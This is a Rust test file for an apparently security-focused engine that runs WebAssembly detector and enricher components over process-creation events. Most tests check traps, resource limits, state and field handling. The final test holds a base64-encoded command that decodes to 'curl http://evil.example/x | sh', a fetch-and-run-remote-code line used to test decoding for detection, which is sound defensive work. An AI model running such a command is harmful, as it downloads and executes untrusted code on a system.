//! Real components in this room: the guests of `tests/guests`, as `cargo xtask build` leaves them.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::detection::{Diagnostic, Gravity};
use crate::kind::{Catalogue, KINDS, KindId, SYSTEM};
use crate::process::{Image, Process};
use crate::slab::{Cell, Row, Slab};

/// Bytes of a built component.
fn built(directory: &str, name: &str) -> (PathBuf, Vec<u8>) {
    let target = std::env::var_os("CARGO_TARGET_DIR").map_or_else(|| Path::new("../target").to_owned(), PathBuf::from);
    let path = target.join(directory).join(format!("{name}.wasm"));
    match std::fs::read(&path) {
        Ok(bytes) => (path, bytes),
        Err(error) => panic!("{}: {error}; run `cargo xtask build` first", path.display()),
    }
}

/// Compiled code is kept beside the components: a test run compiles each only once.
pub(super) fn runtime() -> Runtime {
    // One at a time: two that make the directory at once are in each other's way.
    static MAKING: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _making = MAKING.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
    let cache = std::env::current_dir().unwrap().join("../target/guest-cache");
    Runtime::new(&RuntimeOptions { cache_dir: Some(cache) }).unwrap()
}

pub(super) fn setup(name: &str) -> Setup {
    Setup {
        name: name.to_owned(),
        config: serde_json::json!({}),
        files: Arc::new([]),
        seed: (1, 2),
        replicas: 1,
        limits: Limits { log_lines_per_second: 1_000, ..Limits::default() },
    }
}

/// A machine that tests run on may be overloaded: only processor time counts.
fn patient() -> Limits {
    Limits { wall_factor: 1_000_000, ..Limits::default() }
}

pub(super) fn load_test_guest(runtime: &Runtime, setup: Setup) -> Result<Loaded, LoadError> {
    let (path, bytes) = built("test-guests", &setup.name.clone());
    let component = runtime.compile(&setup.name, &path, &bytes).unwrap();
    load(runtime, &component, setup, &Catalogue::default(), 0)
}

fn one_instance(setup: Setup) -> Instance {
    let loaded = load_test_guest(&runtime(), setup).unwrap();
    assert_eq!(loaded.diagnostics, []);
    let mut instances = loaded.guest.instances();
    assert_eq!(instances.len(), 1);
    instances.remove(0)
}

/// The kind that a new process is.
fn creation() -> KindId {
    let creates = |k: &&crate::kind::Kind| k.sources.iter().any(|s| s.category == "process_creation");
    KindId(KINDS.iter().position(creates).unwrap() as u16)
}

/// A slab of new processes with these command lines, one second apart. Sequence numbers begin at `first`.
pub(super) fn slab_from(first: u64, lines: &[&str]) -> Arc<Slab> {
    let mut slab = Slab::default();
    for (i, line) in lines.iter().enumerate() {
        let cells = slab.cells.len() as u32;
        let width = SYSTEM.len() + creation().spec().unwrap().fields.len();
        slab.cells.extend(std::iter::repeat_n(Cell::Absent, width));
        let image = Image {
            name: Some(b"sh"[..].into()),
            exe: Some(b"/bin/sh"[..].into()),
            cmdline: Some(line.as_bytes().into()),
            ..Image::default()
        };
        let process = Process { id: first + i as u64, image: Arc::new(image), ancestors: Box::new([]) };
        slab.rows.push(Row {
            seq: first + i as u64,
            time: (first + i as u64) * 1_000_000_000,
            kind: creation(),
            cells,
            repeat: false,
            partial: false,
            process: Some(Arc::new(process)),
            raw: None,
        });
    }
    slab.watermark = slab.rows.first().map_or(0, |r| r.time);
    Arc::new(slab)
}

pub(super) fn slab(lines: &[&str]) -> Arc<Slab> {
    slab_from(100, lines)
}

fn found(handled: &Handled) -> Vec<Option<u32>> {
    handled.detections.iter().map(|d| d.row).collect()
}

#[test]
fn matches_name_their_rows_at_every_batch_size_and_with_replicas() {
    let lines: Vec<String> =
        (0..100).map(|i| if i % 7 == 3 { format!("a needle {i}") } else { format!("hay {}", i % 5) }).collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let expected: Vec<u64> = (0..100).filter(|i| i % 7 == 3).collect();
    for replicas in [1, 2] {
        let loaded = load_test_guest(&runtime(), Setup { replicas, ..setup("poison") }).unwrap();
        let mut instances = loaded.guest.instances();
        assert_eq!(instances.len(), replicas as usize);
        assert!(loaded.guest.instances().is_empty(), "instances are taken once");
        for size in [1, 7, 256] {
            let mut seqs = Vec::new();
            for (i, lines) in lines.chunks(size).enumerate() {
                let slab = slab_from((i * size) as u64, lines);
                let turn = i % instances.len();
                let handled = instances[turn].on_events(&slab);
                assert_eq!((handled.offered as usize, handled.set_aside.len()), (lines.len(), 0));
                seqs.extend(handled.detections.iter().map(|d| slab.rows[d.row.unwrap() as usize].seq));
            }
            assert_eq!(seqs, expected, "{replicas} replicas, batches of {size}");
        }
    }
}

#[test]
fn a_poison_row_costs_that_row() {
    let mut instance = one_instance(setup("poison"));
    let slab = slab(&["needle 1", "poison-row", "hay", "needle 2"]);
    let handled = instance.on_events(&slab);
    assert_eq!(found(&handled), [Some(0), Some(3)]);
    assert_eq!(handled.set_aside.iter().map(|(row, _)| *row).collect::<Vec<_>>(), [1]);
    assert_eq!(handled.offered, 4);
    let reason = handled.trapped.unwrap();
    assert!(reason.contains("unreachable") && reason.contains("poisoned"), "the panic message is in: {reason}");
    // And the next slab is handled as if nothing had been.
    let next = instance.on_events(&slab_from(200, &["needle"]));
    assert_eq!((found(&next), next.trapped), (vec![Some(0)], None));
    assert_eq!(instance.guest().traps(), 2);
}

#[test]
fn on_probation_nothing_is_tried_twice() {
    let mut instance = one_instance(setup("poison"));
    let poisoned = slab(&["needle", "poison-row"]);
    let reason = instance.on_events_probation(&poisoned).unwrap_err();
    assert!(reason.contains("poisoned"), "{reason}");
    assert_eq!(instance.guest().traps(), 1);
    let handled = instance.on_events_probation(&slab(&["needle"])).unwrap();
    assert_eq!((found(&handled), handled.offered), (vec![Some(0)], 1));
}

#[test]
fn a_guest_that_always_traps_rests_and_accounts_for_every_row() {
    let mut instance = one_instance(setup("trap"));
    let lines = vec!["x"; 20];
    let mut traps = Vec::new();
    for i in 0..20 {
        // All at one event time: nothing is given back.
        let mut slab = slab_from(i * 20, &lines);
        Arc::get_mut(&mut slab).unwrap().rows.iter_mut().for_each(|r| r.time = 0);
        Arc::get_mut(&mut slab).unwrap().watermark = 0;
        let handled = instance.on_events(&slab);
        assert_eq!((handled.offered, handled.set_aside.len()), (20, 20));
        traps.push(instance.guest().traps());
    }
    assert_eq!(traps[0], 21, "the batch, and each row");
    assert_eq!(traps[1], 32, "then it rests");
    assert_eq!(traps[19], 32);
    // A second later it is tried again.
    let later = instance.on_events(&slab_from(5_000, &lines));
    assert_eq!(later.set_aside.len(), 20);
    assert_eq!(instance.guest().traps(), 34);
}

#[test]
fn a_spinning_guest_is_ended_by_processor_time() {
    let limits = Limits { call_cpu: Duration::from_millis(50), ..patient() };
    let mut instance = one_instance(Setup { limits, ..setup("spin") });
    let handled = instance.on_events(&slab(&["quiet", "spin-now", "quiet"]));
    assert_eq!(handled.trapped.as_deref(), Some("cpu deadline of 50ms passed"));
    assert_eq!(handled.set_aside, [(1, "cpu deadline of 50ms passed".into())]);
}

#[test]
fn a_guest_that_spins_before_it_runs_is_refused() {
    for (when, call) in [("init", "init"), ("bind", "bind")] {
        let limits = Limits { init_cpu: Duration::from_millis(100), ..patient() };
        let config = serde_json::json!({ when: true });
        let refused = load_test_guest(&runtime(), Setup { config, limits, ..setup("spin") }).unwrap_err();
        assert_eq!(refused.to_string(), format!("guest spin: {call} failed: cpu deadline of 100ms passed"));
    }
}

#[test]
fn a_guest_that_takes_too_much_memory_is_named() {
    let limits = Limits { memory_bytes: 16 << 20, ..Limits::default() };
    let mut instance = one_instance(Setup { limits, ..setup("hog") });
    let handled = instance.on_events(&slab(&["modest", "hog-now"]));
    let reason = "memory limit of 16777216 bytes reached";
    assert_eq!(handled.trapped.as_deref(), Some(reason));
    assert_eq!(handled.set_aside, [(1, reason.into())]);
}

#[test]
fn a_stack_without_end_is_a_trap_like_any_other() {
    let mut instance = one_instance(setup("hog"));
    let handled = instance.on_events(&slab(&["modest", "deep-now", "modest"]));
    assert!(handled.trapped.as_deref().is_some_and(|r| r.contains("call stack exhausted")), "{:?}", handled.trapped);
    assert_eq!(handled.set_aside.iter().map(|(row, _)| *row).collect::<Vec<_>>(), [1]);
}

#[test]
fn a_row_is_explained_by_a_fresh_instance() {
    let loaded = load_test_guest(&runtime(), echo("CommandLine", false)).unwrap();
    let nodes = loaded.guest.explain("echo", &slab(&["a", "b"]), 1).unwrap();
    let seen: Vec<_> =
        nodes.iter().map(|n| (n.parent, n.label.as_str(), n.reason.as_str(), n.actual.clone())).collect();
    assert_eq!(
        seen,
        [
            (0, "echo", "1 rows", OwnedValue::Absent),
            (0, "field", "1 rows", OwnedValue::Text(b"b"[..].into())),
            (2, "liar", "1 rows", OwnedValue::Null),
        ]
    );
    assert_eq!(
        loaded.guest.explain("other", &slab(&["a"]), 0).unwrap_err().to_string(),
        "guest echo: has no rule other"
    );
    assert!(matches!(loaded.guest.explain("echo", &slab(&["a"]), 1), Err(GuestError::NotSelected { .. })));
    let silent = load_test_guest(&runtime(), setup("poison")).unwrap();
    assert!(!silent.guest.explains());
    assert!(matches!(silent.guest.explain("needle", &slab(&["a"]), 0), Err(GuestError::NoExplain { .. })));
}

#[test]
fn lies_are_refused_and_the_honest_detection_counts() {
    let limits = Limits { string_bytes: 1_000, items: 2, ..Limits::default() };
    let mut instance = one_instance(Setup { limits, ..setup("liar") });
    let handled = instance.on_events(&slab(&["a", "b", "c"]));
    assert_eq!((handled.refused, handled.failures, handled.trapped), (5, 1, None));
    assert_eq!(handled.detections.iter().map(|d| d.row).collect::<Vec<_>>(), [Some(0), Some(2)]);
    let cut = &handled.detections[0];
    assert!(cut.key.len() < 1_100 && cut.fields.len() == 2 && cut.fields[0].1.len() == 1_000);
    assert_eq!((cut.evidence[0].value.len(), cut.evidence[0].pattern.len()), (1_000, 1_000));

    let limits = Limits { output_bytes: 1 << 20, ..Limits::default() };
    let mut instance = one_instance(Setup { limits, ..setup("liar") });
    let handled = instance.on_events(&slab(&["a"]));
    assert!(handled.trapped.is_some(), "more output than the limit ends the call");
    assert_eq!(handled.set_aside.len(), 1);
}

fn echo(fields: &str, calls: bool) -> Setup {
    let file = |name: &str, content: &str| File { name: name.to_owned(), content: content.as_bytes().into() };
    let mut files = vec![file("fields", fields)];
    if calls {
        files.push(file("calls", ""));
    }
    Setup { files: files.into(), ..setup("echo") }
}

/// What the guest saw of a row: (shape or presence, value) per field.
fn seen(handled: &Handled, row: usize) -> Vec<(String, String)> {
    let evidence = &handled.detections[row].evidence;
    evidence.iter().map(|e| (e.pattern.clone(), String::from_utf8_lossy(&e.value).into_owned())).collect()
}

/// A slab of JSON that no field table describes.
pub(super) fn foreign(events: &[serde_json::Value]) -> Arc<Slab> {
    let mut slab = Slab::default();
    for (i, event) in events.iter().enumerate() {
        let cells = slab.cells.len() as u32;
        slab.cells.extend(std::iter::repeat_n(Cell::Absent, SYSTEM.len()));
        slab.rows.push(Row {
            seq: i as u64,
            time: 0,
            kind: KindId::FOREIGN,
            cells,
            repeat: false,
            partial: false,
            process: None,
            raw: Some(Box::new(event.clone())),
        });
    }
    Arc::new(slab)
}

#[test]
fn values_arrive_as_they_are_and_presence_tells_them_apart() {
    let runtime = runtime();
    let catalogue = Catalogue { any_json: true, ..Catalogue::default() };
    let (path, bytes) = built("test-guests", "echo");
    let component = runtime.compile("echo", &path, &bytes).unwrap();
    let loaded = load(&runtime, &component, echo("name\nnumber\nlist\nCommandLine", false), &catalogue, 0).unwrap();
    let mut instance = loaded.guest.instances().remove(0);
    let slab = foreign(&[
        serde_json::json!({"name": "ééé", "number": 7, "list": ["a", 2, "é"]}),
        serde_json::json!({"name": "", "number": -1.5, "list": []}),
        serde_json::json!({"name": null, "number": true, "list": "one"}),
        serde_json::json!({"number": null}),
        serde_json::json!({"name": "ééé", "number": "7"}),
    ]);
    let handled = instance.on_events(&slab);
    let own = |rows: &[(&str, &str)]| rows.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect::<Vec<_>>();
    let no = ("absent", "");
    assert_eq!(seen(&handled, 0), own(&[("text", "ééé"), ("text", "7"), ("text-list", "a|2|é"), no]));
    assert_eq!(seen(&handled, 1), own(&[("text", ""), ("text", "-1.5"), ("text-list", ""), no]));
    assert_eq!(seen(&handled, 2), own(&[("null", ""), ("text", "true"), ("text-list", "one"), no]));
    assert_eq!(seen(&handled, 3), own(&[no, ("null", ""), no, no]));
    assert_eq!(seen(&handled, 4), own(&[("text", "ééé"), ("text", "7"), no, no]));
}

#[test]
fn typed_columns_have_their_type_and_unknown_fields_a_hint() {
    let runtime = runtime();
    let (path, bytes) = built("test-guests", "echo");
    let component = runtime.compile("echo", &path, &bytes).unwrap();
    let fields = "CommandLine\nSystem.UserID\n@process\n@ancestors.Image\nEventName\nCommandLin\nenrich.late.text";
    let late = crate::kind::EnrichOutput {
        slot: 0,
        output: 0,
        name: "enrich.late.text".to_owned(),
        shape: crate::kind::Shape::TextList,
        doc: String::new(),
    };
    let catalogue = Catalogue { enrich: vec![late], any_json: false, ..Catalogue::default() };
    let loaded = load(&runtime, &component, echo(fields, false), &catalogue, 1).unwrap();
    assert_eq!(
        loaded.diagnostics,
        [Diagnostic {
            gravity: Gravity::Warning,
            code: "unknown-field".to_owned(),
            message: "no event has `CommandLin`".to_owned(),
            help: "did you mean `CommandLine`?".to_owned(),
            file: "fields".to_owned(),
            line: 6,
            column: 1,
            length: 10,
        }]
    );
    let mut slab = slab(&["id", "id"]);
    let uid = SYSTEM.iter().position(|f| f.path == "UserID").unwrap();
    Arc::get_mut(&mut slab).unwrap().cells[uid] = Cell::Unsigned(u64::MAX);
    let handled = loaded.guest.instances().remove(0).on_events(&slab);
    let kind = creation().spec().unwrap().name;
    let own = |rows: &[(&str, &str)]| rows.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect::<Vec<_>>();
    let all = u64::MAX.to_string();
    let rest = [("text-list", ""), ("text", kind), ("absent", ""), ("unavailable", "")];
    assert_eq!(
        seen(&handled, 0),
        own(&[&[("text", "id"), ("unsigned", &all), ("unsigned", "100")], &rest[..]].concat())
    );
    assert_eq!(seen(&handled, 1), own(&[&[("text", "id"), ("absent", ""), ("unsigned", "101")], &rest[..]].concat()));
}

#[test]
fn the_host_answers_within_the_turn_and_keeps_state() {
    let loaded = load_test_guest(&runtime(), echo("CommandLine", true)).unwrap();
    let mut instance = loaded.guest.instances().remove(0);
    let handled = instance.on_events(&slab(&["a", "b"]));
    let field = |row: usize, name: &str| {
        handled.detections[row].fields.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone()).unwrap()
    };
    assert_eq!((field(0, "added"), field(1, "added")), ("Ok(1)".to_owned(), "Ok(2)".to_owned()));
    assert_eq!(field(1, "stored"), "Ok(())");
    assert_eq!(field(1, "read"), format!("Some({:?})", 101_u64.to_le_bytes()));
    assert_eq!(field(0, "comm"), format!("Value::Text({:?})", b"sh"));
    assert_eq!((field(0, "elsewhere"), field(0, "json")), ("Value::Absent".to_owned(), "true".to_owned()));
    assert_eq!(loaded.guest.counters(), [("echoed".to_owned(), 2)]);
    // 60 s of event time later, the counter has ended.
    let handled = instance.on_events(&slab_from(1_000, &["c"]));
    assert_eq!(handled.detections[0].fields[0].1, "Ok(1)");
}

#[test]
fn state_survives_a_swap_and_not_another_format_or_guest() {
    let runtime = runtime();
    let run = |name: &str| {
        let (path, bytes) = built("test-guests", "echo");
        let component = runtime.compile(name, &path, &bytes).unwrap();
        let setup = Setup { name: name.to_owned(), ..echo("CommandLine", true) };
        let loaded = load(&runtime, &component, setup, &Catalogue::default(), 0).unwrap();
        let handled = loaded.guest.instances().remove(0).on_events(&slab(&["a"]));
        handled.detections[0].fields[0].1.clone()
    };
    assert_eq!((run("one"), run("one"), run("two")), ("Ok(1)".to_owned(), "Ok(2)".to_owned(), "Ok(1)".to_owned()));
}

#[test]
fn instances_move_to_threads() {
    fn movable<T: Send>() {}
    fn shared<T: Send + Sync>() {}
    movable::<Instance>();
    shared::<Guest>();
    shared::<Component>();
    shared::<Runtime>();
    shared::<Enriched>();
}

#[test]
fn digests_tell_components_configs_and_files_apart() {
    let runtime = runtime();
    let digest = |setup: Setup| load_test_guest(&runtime, setup).unwrap().guest.digest.clone();
    let base = digest(echo("a", false));
    assert_eq!(base, digest(echo("a", false)));
    assert_ne!(base, digest(echo("b", false)));
    assert_ne!(base, digest(echo("a", true)));
    assert_ne!(base, digest(Setup { config: serde_json::json!({"x": 1}), ..echo("a", false) }));
}

#[test]
fn what_an_enricher_trapped_on_or_lied_about_is_unavailable() {
    let loaded = load_test_guest(&runtime(), setup("flaky")).unwrap();
    let mut enricher = loaded.guest.instances().remove(0);
    let state = |enriched: &EnrichHandled| -> Vec<String> {
        let columns = enriched.columns.as_ref().unwrap();
        (0..enriched.offered as usize).map(|row| format!("{:?}", columns.value(0, row))).collect()
    };
    let seen = format!("{:?}", crate::slab::Value::Text(b"seen"));
    let trapped = enricher.enrich(&slab(&["a", "poison-row", "b"]));
    assert_eq!(state(&trapped), [&seen, "Unavailable", &seen]);
    assert_eq!((trapped.set_aside.len(), trapped.trapped.is_some(), trapped.refused), (1, true, 0));
    let lied = enricher.enrich(&slab(&["a", "liar-row"]));
    assert_eq!(state(&lied), ["Unavailable", "Unavailable"]);
    assert_eq!((lied.set_aside.len(), lied.trapped, lied.refused), (0, None, 1));
    let well = enricher.enrich(&slab(&["a"]));
    assert_eq!((state(&well), well.refused), (vec![seen], 0));
}

#[test]
fn sources_that_nothing_feeds_are_a_warning() {
    let source = |name: &str| {
        let config = serde_json::json!({ "source": name });
        let loaded = load_test_guest(&runtime(), Setup { config, ..setup("flaky") }).unwrap();
        assert_eq!(loaded.guest.plan.subscriptions.len(), 0);
        assert_eq!(loaded.guest.instances().remove(0).enrich(&slab(&["a"])).offered, 0);
        loaded.diagnostics.into_iter().map(|d| (d.gravity, d.code)).collect::<Vec<_>>()
    };
    assert_eq!(source("file_access"), [(Gravity::Warning, "source-needs-path".to_owned())]);
    assert_eq!(source("registry"), [(Gravity::Warning, "source-not-fed".to_owned())]);
    assert_eq!(source("@detection"), [(Gravity::Warning, "source-not-offered".to_owned())]);
}

#[test]
fn a_guest_that_refuses_to_start_says_why() {
    let config = serde_json::json!({ "refuse": true });
    let refused = load_test_guest(&runtime(), Setup { config, ..setup("flaky") }).unwrap_err();
    assert_eq!(refused.to_string(), "guest flaky: refused to start: told to refuse");
    assert_eq!(refused.diagnostics[0].code, "refused");
}

#[test]
fn the_built_enricher_decodes_and_a_detector_reads_it() {
    let runtime = runtime();
    let (path, bytes) = built("guests", "decode");
    let component = runtime.compile("decode", &path, &bytes).unwrap();
    assert_eq!(component.world, World::Enricher);
    let loaded = load(&runtime, &component, setup("decode"), &Catalogue::default(), 0).unwrap();
    let outputs = loaded.guest.plan.outputs.clone();
    assert_eq!(outputs.iter().map(|o| o.name.as_str()).collect::<Vec<_>>(), ["enrich.decode.text"]);
    let mut enricher = loaded.guest.instances().remove(0);
    let mut slab = slab(&["ls -l", "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d"]);
    let enriched = enricher.enrich(&slab);
    assert_eq!((enriched.offered, enriched.refused, &enriched.trapped), (2, 0, &None));
    Arc::get_mut(&mut slab).unwrap().enriched = vec![std::sync::OnceLock::from(enriched.columns)];

    let (path, bytes) = built("test-guests", "echo");
    let component = runtime.compile("echo", &path, &bytes).unwrap();
    let catalogue = Catalogue { enrich: outputs, any_json: false, ..Catalogue::default() };
    let loaded = load(&runtime, &component, echo("enrich.decode.text", false), &catalogue, 1).unwrap();
    let handled = loaded.guest.instances().remove(0).on_events(&slab);
    assert_eq!(seen(&handled, 0), [("absent".to_owned(), String::new())]);
    assert_eq!(seen(&handled, 1), [("text-list".to_owned(), "curl http://evil.example/x | sh".to_owned())]);
}
